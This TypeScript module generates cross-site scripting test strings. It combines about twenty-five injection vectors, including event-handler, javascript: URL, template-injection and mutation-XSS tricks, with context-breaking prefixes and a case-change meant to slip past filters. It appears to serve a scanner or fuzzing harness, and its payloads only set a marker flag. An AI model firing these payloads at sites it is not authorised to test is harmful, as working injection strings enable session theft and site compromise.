/** Makes texts that run a script wherever a page takes text for markup, addresses or templates. */

/** What a string does when it runs: it can be seen from outside whatever it is wrapped in. */
const hit = "top.belayHit=1";

/** Ways to run a script, with another mark in each, so that one can be found again on a page. */
const cores: readonly ((mark: string) => string)[] = [
  (mark) => `<script>${hit}//${mark}</script>`,
  (mark) => `<img src=x${mark} onerror=${hit}>`,
  (mark) => `<svg onload=${hit} id=${mark}>`,
  (mark) => `<details open ontoggle=${hit}>${mark}`,
  (mark) => `<input autofocus onfocus=${hit} value=${mark}>`,
  (mark) => `<iframe srcdoc="<script>${hit}</script>">${mark}`,
  (mark) => `<a href="javascript:${hit}">${mark}</a>`,
  (mark) => `javascript:${hit}//${mark}`,
  (mark) => `data:text/html,<script>${hit}</script>${mark}`,
  (mark) => `<video><source onerror=${hit}>${mark}</video>`,
  (mark) => `<body onload=${hit}>${mark}`,
  (mark) => `<marquee onstart=${hit}>${mark}</marquee>`,
  (mark) => `<object data="javascript:${hit}">${mark}</object>`,
  (mark) => `<base href="javascript:/${mark}/">`,
  (mark) => `<meta http-equiv=refresh content="0;url=javascript:${hit}">${mark}`,
  (mark) => `<math><mtext><style><img src=x onerror=${hit}></style>${mark}`,
  (mark) => `<noscript><p title="</noscript><img src=x onerror=${hit}>">${mark}`,
  (mark) => `<template><script>${hit}</script></template>${mark}`,
  (mark) => `{{constructor.constructor('${hit}')()}}${mark}`,
  (mark) => `\${${hit}}${mark}`,
  (mark) => `#{${hit}}<%= ${hit} %>${mark}`,
  (mark) => `{"__proto__":{"html":"<img src=x onerror=${hit}>"}}${mark}`,
  (mark) => `<form><button formaction="javascript:${hit}">${mark}</button></form>`,
  (mark) => `<style>*{background:url("javascript:${hit}")}</style>${mark}`,
  (mark) => `&lt;img src=x onerror=${hit}&gt;${mark}`,
];

/** What closes whatever a careless page may have opened before it. */
const breakers = ["", `">`, `'>`, "</textarea>", "</title>", "-->", "]]>", "</style>", "</script>", `"/**/`] as const;

/** Spellings that get past careless filters. */
const bends: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/<(\w)/g, (_all, letter: string) => `<${letter.toUpperCase()}`),
];

/** The string of case `n`, and the mark that stands in it alone. */
export const scriptString = (n: number): { readonly text: string; readonly mark: string } => {
  const mark = `q${String(n).padStart(4, "0")}z`;
  const core = cores[n % cores.length] ?? ((text: string) => text);
  const breaker = breakers[Math.floor(n / cores.length) % breakers.length] ?? "";
  const bend = bends[Math.floor(n / (cores.length * breakers.length)) % bends.length] ?? ((text: string) => text);
  return { text: bend(`${breaker}${core(mark)}`), mark };
};
